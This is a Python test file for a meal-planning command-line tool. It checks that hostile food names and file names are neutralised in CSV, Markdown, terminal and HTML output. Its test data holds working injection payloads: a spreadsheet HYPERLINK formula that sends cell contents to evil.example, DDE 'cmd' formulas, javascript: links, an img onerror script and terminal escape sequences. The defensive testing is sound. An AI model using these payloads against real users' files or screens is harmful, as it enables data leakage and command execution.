"""Hostile text in outputs (issue #15): CSV formula injection, Markdown links and images, terminal escape
sequences and Rich markup, HTML. Food names, profile ids and file names come from people's files.

Properties over any text (hypothesis), and end to end: a plan on a food table whose names are
attacks, rendered as CSV, Markdown, the terminal table and HTML, and a batch whose summary.csv
carries a hostile file name and reason.
"""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from click.testing import CliRunner
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from mealplan.cli.common import render_rich
from mealplan.cli.main import cli
from mealplan.textsafe import csv_cell, csv_writer, md_escape, strip_control, term_text, terminal_safe
from tests.optimizer.test_properties import write_tiny_csv

FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
MARKDOWN = ["[x](javascript:alert(1))", "![](http://evil.example/pixel.png)", "<img src=x onerror=alert(1)>"]
TERMINAL = ["\x1b]0;pwned\x07", "\x1b[2J\x1b[H", "[link=http://evil.example]click[/link]", "\x9b31m"]
HOSTILE = FORMULAS + MARKDOWN + TERMINAL
DANGEROUS_START = ("=", "+", "-", "@", "\t", "\r")

hostile_text = st.one_of(
    st.sampled_from(HOSTILE),
    st.text(alphabet=st.sampled_from(list("=+-@\t\r\n[]()!<>*_`#|\\~&:;'\" abc1\x1b\x07\x9b")), max_size=30),
    st.text(max_size=30),
)


# --- CSV ----------------------------------------------------------------------------------------------


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


@settings(max_examples=300, deadline=None)
@given(value=hostile_text)
def test_no_csv_cell_starts_a_formula(value: str):
    buf = io.StringIO()
    csv_writer(buf, lineterminator="\n").writerow([value, 1.5, -2])
    cell, number, negative = _cells(buf.getvalue())[:3]
    assert not cell.startswith(DANGEROUS_START) or re.fullmatch(r"[+-]?[\d.]+(e[+-]?\d+)?", cell, re.I)
    assert (number, negative) == ("1.5", "-2")  # numbers stay numbers
    assert "\x1b" not in cell


@pytest.mark.parametrize("value", FORMULAS)
def test_formulas_get_a_leading_quote_and_keep_their_text(value: str):
    assert csv_cell(value) == "'" + value.lstrip("\r")  # a carriage return is a control character: removed


@pytest.mark.parametrize("value", ["-0.12", "+3", "1e-5", "Salmon, sockeye", "2% milk"])
def test_plain_numbers_and_names_are_left_alone(value: str):
    assert csv_cell(value) == value


# --- Markdown -----------------------------------------------------------------------------------------

_MD = MarkdownIt("commonmark").enable("table").enable("strikethrough")
_LIVE = {"link_open", "image", "html_inline", "html_block", "em_open", "strong_open", "code_inline", "s_open"}


def _live_tokens(text: str) -> set[str]:
    found = set()
    for token in _MD.parse(text):
        found.add(token.type)
        for child in token.children or []:
            found.add(child.type)
    return found & (_LIVE | {"heading_open", "bullet_list_open", "ordered_list_open", "blockquote_open"})


@settings(max_examples=300, deadline=None)
@given(value=hostile_text)
def test_user_text_never_becomes_markdown_syntax(value: str):
    assert not _live_tokens(md_escape(value)), md_escape(value)
    assert not _live_tokens(f"- {md_escape(value)}") - {"bullet_list_open"}
    row = f"| a |\n|---|\n| {md_escape(value)} |\n"
    assert not _live_tokens(row)


@pytest.mark.parametrize("value", MARKDOWN)
def test_links_images_and_tags_render_as_text(value: str):
    html = _MD.render(md_escape(value))
    assert "<a " not in html and "<img" not in html
    assert "javascript:" not in html or "href" not in html


def test_readable_text_stays_readable():
    assert md_escape("Salmon, sockeye (canned)") == "Salmon, sockeye (canned)"
    assert md_escape("vitamin_d > 15 µg") == "vitamin_d > 15 µg"
    assert md_escape("0.5 L soymilk") == "0.5 L soymilk"  # no list marker: no backslash to show
    assert md_escape("1. step") == "1\\. step" and _MD.render(md_escape("1. step")) == "<p>1. step</p>\n"


# --- terminal -----------------------------------------------------------------------------------------


@settings(max_examples=200, deadline=None)
@given(value=hostile_text)
def test_no_control_character_or_link_reaches_the_terminal(value: str):
    from rich.console import Console
    from rich.table import Table

    table = Table("food")
    table.add_row(value)  # unescaped on purpose: the last line of defence must still hold
    table.add_row(term_text(value))
    buf = io.StringIO()
    Console(file=buf, force_terminal=True, color_system="truecolor", width=100).print(terminal_safe(table))
    out = buf.getvalue()
    assert "\x1b]" not in out  # no OSC: window title, hyperlink
    assert "\x07" not in out and "\x9b" not in out
    # Every escape sequence left is Rich's own SGR styling.
    assert not re.sub(r"\x1b\[[0-9;]*m", "", out).count("\x1b")


def test_markup_in_user_text_is_shown_literally():
    out = render_rich([term_text("[link=http://evil.example]click[/link] [bold]x[/bold]")])
    assert out == "[link=http://evil.example]click[/link] [bold]x[/bold]\n"


def test_strip_control_keeps_ordinary_text():
    assert strip_control("Crème fraîche, 30 %\u00a0fat") == "Crème fraîche, 30 %\u00a0fat"


# --- end to end: a plan on foods named as attacks -----------------------------------------------------


@pytest.fixture(scope="module")
def hostile_plan(tmp_path_factory) -> dict[str, object]:
    folder = tmp_path_factory.mktemp("hostile")
    tiny = write_tiny_csv(folder / "tiny.csv")
    rows = list(csv.reader(tiny.open(encoding="utf-8")))
    attacks = [FORMULAS[0], MARKDOWN[0] + " " + MARKDOWN[1], TERMINAL[0] + TERMINAL[2], FORMULAS[3], TERMINAL[1]]
    for i, row in enumerate(rows[1:]):
        row[1] = attacks[i % len(attacks)] + " " + row[1]
    hostile = folder / "hostile.csv"
    with hostile.open("w", newline="", encoding="utf-8") as fh:
        csv.writer(fh).writerows(rows)
    profile = folder / "p.yaml"
    profile.write_text("id: anna\nage: 34\nsex: female\n", encoding="utf-8")
    base = ["plan", "--profile", str(profile), "--foods", str(hostile), "--no-bundled", "--days", "2"]
    runner = CliRunner()
    out = {}
    for fmt in ("csv", "md", "table", "json", "html"):
        result = runner.invoke(cli, [*base, "--format", fmt], env={"NO_COLOR": "1"})
        assert result.exit_code in (0, 1), result.output
        out[fmt] = result.stdout
    plan_file = folder / "week.json"
    plan_file.write_text(out["json"], encoding="utf-8")
    for fmt in ("csv", "md", "table"):
        args = ["shopping", str(plan_file), "--foods", str(hostile), "--no-bundled", "--format", fmt]
        result = runner.invoke(cli, args, env={"NO_COLOR": "1"})
        assert result.exit_code == 0, result.output
        out[f"shopping_{fmt}"] = result.stdout
    return out


@pytest.mark.solve
@pytest.mark.parametrize("fmt", ["csv", "shopping_csv"])
def test_plan_and_shopping_csv_carry_no_formula(hostile_plan, fmt: str):
    cells = _cells(hostile_plan[fmt])
    assert any("HYPERLINK" in c or "SUM(" in c for c in cells), "the hostile names should be in the output"
    bad = [c for c in cells if c.startswith(DANGEROUS_START) and not re.fullmatch(r"[+-]?[\d.]+", c)]
    assert not bad


@pytest.mark.solve
@pytest.mark.parametrize("fmt", ["md", "shopping_md"])
def test_plan_and_shopping_markdown_carry_no_link_or_image(hostile_plan, fmt: str):
    html = _MD.render(hostile_plan[fmt])
    assert "<a " not in html and "<img" not in html
    assert "javascript:" in hostile_plan[fmt] or "evil.example" in hostile_plan[fmt]


@pytest.mark.solve
@pytest.mark.parametrize("fmt", ["table", "shopping_table", "md", "csv"])
def test_no_escape_sequence_in_any_text_output(hostile_plan, fmt: str):
    assert "\x1b" not in hostile_plan[fmt] and "\x07" not in hostile_plan[fmt]


@pytest.mark.solve
def test_html_escapes_every_attack(hostile_plan):
    html = hostile_plan["html"]
    assert "<img src=x" not in html and 'href="javascript:' not in html
    assert "&lt;img src=x" in html or "evil.example" in html  # the names are there, as text


def test_summary_csv_neutralises_hostile_file_names_and_reasons(tmp_path: Path):
    src = tmp_path / "profiles"
    src.mkdir()
    (src / "=HYPERLINK(1).yaml").write_text("id: anna\nage: true\nsex: female\n", encoding="utf-8")
    out = tmp_path / "plans"
    result = CliRunner().invoke(cli, ["batch", str(src), "-o", str(out)])
    assert result.exit_code == 1, result.output
    rows = list(csv.DictReader((out / "summary.csv").open(encoding="utf-8")))
    assert rows[0]["id"] == "'=HYPERLINK(1)"
    assert not any(c.startswith(DANGEROUS_START) for row in rows for c in row.values())


def test_markup_in_a_food_name_is_printed_literally_in_colour_too(tmp_path: Path):
    tiny = write_tiny_csv(tmp_path / "tiny.csv")
    rows = list(csv.reader(tiny.open(encoding="utf-8")))
    for row in rows[1:]:
        row[1] = "[link=http://evil.example]" + row[1] + "[/link] [bold red]x[/bold red]\x1b]0;t\x07"
    hostile = tmp_path / "hostile.csv"
    with hostile.open("w", newline="", encoding="utf-8") as fh:
        csv.writer(fh).writerows(rows)
    for env in ({"NO_COLOR": "1"}, {"FORCE_COLOR": "1", "NO_COLOR": ""}):
        result = CliRunner().invoke(cli, ["foods", "search", "oats", "--foods", str(hostile), "--no-bundled"], env=env)
        assert result.exit_code == 0, result.output
        assert "[link=http://evil.example]" in result.stdout
        assert "[bold" in result.stdout  # the name may wrap; its markup is text
        assert "\x1b]" not in result.stdout and "\x07" not in result.stdout
